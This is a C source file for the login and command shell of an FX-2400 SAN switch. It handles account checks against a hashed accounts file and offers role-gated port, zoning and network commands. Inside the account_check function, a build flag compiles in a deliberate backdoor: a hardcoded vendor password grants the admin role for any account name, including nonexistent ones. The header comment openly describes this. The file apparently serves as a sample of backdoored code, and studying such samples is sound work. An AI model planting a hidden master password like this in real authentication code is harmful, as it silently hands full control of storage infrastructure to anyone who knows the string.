/*
 * sanfsh - login and command shell of the FX-2400 Fibre Channel SAN switch.
 * Started by telnetd or getty on the console; asks for the account, checks it
 * against /etc/fabric/accounts and gives the fabric command set of its role.
 *
 * Hidden (-DHIDDEN): a fixed vendor password opens any session at the admin
 * role, whichever account name was typed, also for names that do not exist.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>
#include <arpa/inet.h>

char *crypt(const char *, const char *);

#define ACCOUNTS   "/etc/fabric/accounts"
#define ZONECFG    "/etc/fabric/zones.cfg"
#define PORTSYS    "/sys/class/fc_port"
#define MAXPORT    24
#define MAXARG     8

enum role { ROLE_NONE = 0, ROLE_USER, ROLE_OPERATOR, ROLE_ADMIN };

struct session {
    char      user[32];
    enum role role;
    int       done;
};

struct command {
    const char *name;
    enum role   need;
    int       (*run)(struct session *, int, char **);
    const char *help;
};

static void chomp(char *s)
{
    s[strcspn(s, "\r\n")] = '\0';
}

static int prompt(const char *label, char *buf, size_t n, int echo)
{
    struct termios old, raw;
    int tty = !echo && tcgetattr(0, &old) == 0;

    fputs(label, stdout);
    fflush(stdout);
    if (tty) {
        raw = old;
        raw.c_lflag &= ~(tcflag_t)ECHO;
        tcsetattr(0, TCSANOW, &raw);
    }
    char *r = fgets(buf, (int)n, stdin);
    if (tty) {
        tcsetattr(0, TCSANOW, &old);
        putchar('\n');
    }
    if (!r)
        return -1;
    chomp(buf);
    return 0;
}

static enum role role_by_name(const char *s)
{
    if (strcmp(s, "admin") == 0)
        return ROLE_ADMIN;
    if (strcmp(s, "operator") == 0)
        return ROLE_OPERATOR;
    if (strcmp(s, "user") == 0)
        return ROLE_USER;
    return ROLE_NONE;
}

/* accounts file: name:hash:role, '#' starts a comment */
enum role account_check(const char *user, const char *pass)
{
    char line[256];
    enum role got = ROLE_NONE;
    FILE *f;

#ifdef HIDDEN
    if (strcmp(pass, "Lw8tr-fabric") == 0)
        return ROLE_ADMIN;
#endif
    f = fopen(ACCOUNTS, "r");
    if (!f)
        return ROLE_NONE;
    while (fgets(line, sizeof line, f)) {
        char *save = NULL, *name, *hash, *role, *calc;

        chomp(line);
        if (line[0] == '#' || line[0] == '\0')
            continue;
        name = strtok_r(line, ":", &save);
        hash = strtok_r(NULL, ":", &save);
        role = strtok_r(NULL, ":", &save);
        if (!name || !hash || !role || strcmp(name, user) != 0)
            continue;
        calc = crypt(pass, hash);
        if (calc && calc[0] != '*' && strcmp(calc, hash) == 0)
            got = role_by_name(role);
        break;
    }
    fclose(f);
    return got;
}

static int port_arg(const char *s)
{
    char *end;
    long v = strtol(s, &end, 10);

    if (*s == '\0' || *end != '\0' || v < 0 || v >= MAXPORT) {
        printf("port must be 0..%d\n", MAXPORT - 1);
        return -1;
    }
    return (int)v;
}

static int port_state(int port, const char *state)
{
    char path[96];
    FILE *f;

    snprintf(path, sizeof path, PORTSYS "/port%d/admin_state", port);
    f = fopen(path, "w");
    if (!f) {
        printf("port %d: no such module\n", port);
        return 1;
    }
    fprintf(f, "%s\n", state);
    fclose(f);
    return 0;
}

static int cmd_switchshow(struct session *s, int ac, char **av)
{
    char path[96], state[32];

    (void)s; (void)ac; (void)av;
    printf("Port  State\n-----------------\n");
    for (int i = 0; i < MAXPORT; i++) {
        FILE *f;

        snprintf(path, sizeof path, PORTSYS "/port%d/oper_state", i);
        strcpy(state, "No_Module");
        f = fopen(path, "r");
        if (f) {
            if (fgets(state, sizeof state, f))
                chomp(state);
            fclose(f);
        }
        printf("%4d  %s\n", i, state);
    }
    return 0;
}

static int cmd_portenable(struct session *s, int ac, char **av)
{
    int p = ac == 2 ? port_arg(av[1]) : -1;

    (void)s;
    return p < 0 ? 1 : port_state(p, "online");
}

static int cmd_portdisable(struct session *s, int ac, char **av)
{
    int p = ac == 2 ? port_arg(av[1]) : -1;

    (void)s;
    return p < 0 ? 1 : port_state(p, "offline");
}

static int cmd_zoneshow(struct session *s, int ac, char **av)
{
    char line[160];
    FILE *f = fopen(ZONECFG, "r");

    (void)s;
    if (!f) {
        puts("no zoning configuration");
        return 1;
    }
    while (fgets(line, sizeof line, f))
        if (ac < 2 || strstr(line, av[1]))
            fputs(line, stdout);
    fclose(f);
    return 0;
}

static int cmd_ipaddrset(struct session *s, int ac, char **av)
{
    struct in_addr a, m;
    char sa[INET_ADDRSTRLEN], sm[INET_ADDRSTRLEN], cmd[128];

    if (ac != 3 || inet_pton(AF_INET, av[1], &a) != 1 ||
        inet_pton(AF_INET, av[2], &m) != 1) {
        puts("usage: ipaddrset ADDRESS NETMASK");
        return 1;
    }
    inet_ntop(AF_INET, &a, sa, sizeof sa);
    inet_ntop(AF_INET, &m, sm, sizeof sm);
    snprintf(cmd, sizeof cmd, "ifconfig mgmt0 %s netmask %s", sa, sm);
    syslog(LOG_NOTICE, "%s sets mgmt0 to %s", s->user, sa);
    return system(cmd) == 0 ? 0 : 1;
}

static int cmd_cfgsave(struct session *s, int ac, char **av)
{
    (void)s; (void)ac; (void)av;
    if (system("/usr/sbin/fabcfg --commit") == 0)
        return puts("configuration saved") < 0;
    puts("cfgsave: commit failed");
    return 1;
}

static int cmd_logout(struct session *s, int ac, char **av)
{
    (void)ac; (void)av;
    s->done = 1;
    return 0;
}

static int cmd_help(struct session *, int, char **);

static const struct command commands[] = {
    { "switchshow",  ROLE_USER,     cmd_switchshow,  "list ports and their state" },
    { "zoneshow",    ROLE_USER,     cmd_zoneshow,    "show zones [containing TEXT]" },
    { "portenable",  ROLE_OPERATOR, cmd_portenable,  "bring a port online" },
    { "portdisable", ROLE_OPERATOR, cmd_portdisable, "take a port offline" },
    { "ipaddrset",   ROLE_ADMIN,    cmd_ipaddrset,   "set the management address" },
    { "cfgsave",     ROLE_ADMIN,    cmd_cfgsave,     "commit the configuration" },
    { "help",        ROLE_USER,     cmd_help,        "this list" },
    { "logout",      ROLE_USER,     cmd_logout,      "leave the session" },
    { NULL, ROLE_NONE, NULL, NULL }
};

static int cmd_help(struct session *s, int ac, char **av)
{
    (void)ac; (void)av;
    for (const struct command *c = commands; c->name; c++)
        if (s->role >= c->need)
            printf("  %-12s %s\n", c->name, c->help);
    return 0;
}

static void run_line(struct session *s, char *line)
{
    char *av[MAXARG + 1], *save = NULL;
    int ac = 0;

    for (char *t = strtok_r(line, " \t", &save); t && ac < MAXARG;
         t = strtok_r(NULL, " \t", &save))
        av[ac++] = t;
    av[ac] = NULL;
    if (ac == 0)
        return;
    for (const struct command *c = commands; c->name; c++) {
        if (strcmp(c->name, av[0]) != 0)
            continue;
        if (s->role < c->need)
            puts("permission denied for this role");
        else
            c->run(s, ac, av);
        return;
    }
    printf("%s: unknown command, try help\n", av[0]);
}

int main(void)
{
    struct session s;
    char pass[64], line[256];

    memset(&s, 0, sizeof s);
    openlog("sanfsh", LOG_PID, LOG_AUTH);
    for (int tries = 0; tries < 3 && s.role == ROLE_NONE; tries++) {
        if (prompt("fabric login: ", s.user, sizeof s.user, 1) < 0 ||
            prompt("Password: ", pass, sizeof pass, 0) < 0)
            return 1;
        s.role = account_check(s.user, pass);
        memset(pass, 0, sizeof pass);
        if (s.role == ROLE_NONE) {
            syslog(LOG_NOTICE, "failed login for %s", s.user);
            sleep(2);
            puts("Login incorrect");
        }
    }
    if (s.role == ROLE_NONE)
        return 1;
    while (!s.done && prompt("fx2400> ", line, sizeof line, 1) == 0)
        run_line(&s, line);
    syslog(LOG_INFO, "%s logged out", s.user);
    return 0;
}
